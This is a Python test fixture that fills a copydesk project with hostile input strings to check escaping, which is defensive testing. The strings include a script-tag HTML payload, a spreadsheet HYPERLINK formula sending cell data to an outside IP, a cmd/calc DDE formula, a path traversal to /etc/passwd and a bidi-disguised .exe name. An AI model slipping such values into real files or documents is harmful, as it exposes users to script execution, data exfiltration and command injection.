"""A project whose every name, title, note and text is made to be taken for something else than words."""

from pathlib import Path

from tests.builders import span_of

from copydesk.domain.actor import ActorKind, Role
from copydesk.domain.annotation import Part, Stance
from copydesk.domain.attribute import AttributeTarget, AttributeType
from copydesk.domain.dataset import EntryKind
from copydesk.domain.topic import TopicExample
from copydesk.session import Session
from copydesk.session.codebook import Entry

MARKUP = "<b>bold</b><img src='http://198.51.100.1/x.png'><script>alert(1)</script><!-- &amp; -->"
FORMULA = '=HYPERLINK("http://198.51.100.1/?"&A1,"x")'
MNEMONIC = "Salt & Pepper &Co && More"
TURNED = "\u202egnp.exe\u202c \u2066port\u2069 \u200f\u061c"
HOLES = "{name} {0} {reason!r} {name.__class__} %n %1 %Ln %s %%"
LINES = "first\nsecond\u2028third\r\nfourth\x00fifth\x1b[31m"
LONG = "Quay" * 2_500
CLIMBING = '../../etc/passwd\\..\\CON:NUL|?*"'
SPACED = " +cmd|' /C calc'!A0"

STRINGS = (MARKUP, FORMULA, MNEMONIC, TURNED, HOLES, LINES, LONG, CLIMBING, SPACED, "@SUM(1)", "－1", "'")
TAGS = ("<b", "<img", "<script", "<i>", "<!--")


def text(number: int) -> str:
    """An article with the strings in its text; each has something that can be marked."""
    return (
        f"Story {number}: {STRINGS[number % len(STRINGS)]}\n\n"
        f"The Quay said: “<i>We</i> {HOLES} & go,” on Monday.\n" + "\n".join(STRINGS) + "\n"
    )


def hostile_session(folder: Path) -> Session:
    """A project in the folder with the strings in every place that takes words; close it when done."""
    files = folder / "<b>texts &x {name} %n"
    files.mkdir(parents=True)
    session = Session.create(folder / "<i>desk & {name} %n.copydesk", title=MARKUP, coder=MARKUP)
    for number in range(len(STRINGS)):
        (files / f"<b>{number} &{number} {{name}} %n.txt").write_text(text(number), encoding="utf-8")
    session.articles.import_paths([files])
    _codebook(session)
    for row, words in zip(session.articles.rows(), STRINGS, strict=True):
        session.articles.edit(
            row.id, **dict.fromkeys(("agency", "place", "byline", "section"), words), title=words
        )
        session.articles.set_note(row.id, words)
        session.articles.set_attribute(row.id, MNEMONIC, words)
        session.lists.create(words, [row.id])
        _tag(session, row.id, words)
    session.suggesting.run()
    return session


def _codebook(session: Session) -> None:
    book, entries = session.codebook, session.entries
    session.attributes.define(AttributeTarget.ARTICLE, MNEMONIC, AttributeType.TEXT)
    session.attributes.define(AttributeTarget.ACTOR, f"{MARKUP} needed", AttributeType.TEXT, required=True)
    session.attributes.define(AttributeTarget.ARTICLE, f"{MARKUP} needed", AttributeType.TEXT, required=True)
    for target in (AttributeTarget.ACTOR, AttributeTarget.QUOTATION, AttributeTarget.MENTION):
        session.attributes.define(target, MARKUP, AttributeType.CHOICE, choices=STRINGS[:6])
    above: int | None = None
    for number, words in enumerate(STRINGS):
        actor = book.add_actor(words, list(ActorKind)[number % len(ActorKind)], aliases=(f"{words} alias",))
        entries.set_description(actor, words)
        entries.set_ids(actor, {words: words, "wikidata": "Q1"})
        entries.set_roles(actor, [Role(title=words)])
        book.set_note(Entry(EntryKind.ACTOR, actor), words)
        above = book.add_topic(words, code=words[:40], definition=words, parent=above)
        entries.set_rules(above, inclusion=words, exclusion=words, keywords=[words])
        entries.set_examples(above, [TopicExample(words)])
        book.set_note(Entry(EntryKind.TOPIC, above), words)


def _tag(session: Session, article: int, words: str) -> None:
    tagging, whole = session.tagging, session.articles.get(article).text
    mention = tagging.tag_actor(
        article, (span_of(whole, "Quay said"),), session.codebook.find_actor(words) or words
    )
    tagging.set_note(mention, words)
    tagging.tag_topic(article, (span_of(whole, "Monday"),), session.codebook.find_topic(words) or words)
    quoted = tagging.tag_quotation(article, (span_of(whole, "<i>We</i>"),))
    tagging.set_part(quoted, Part.CUE, (span_of(whole, "said"),))
    tagging.set_speaker(quoted, session.codebook.find_actor(words) or words)
    tagging.set_topic(quoted, session.codebook.find_topic(words) or words, Stance.SUPPORTS)
    tagging.set_attribute(quoted, MARKUP, STRINGS[0])
    tagging.set_note(quoted, words)
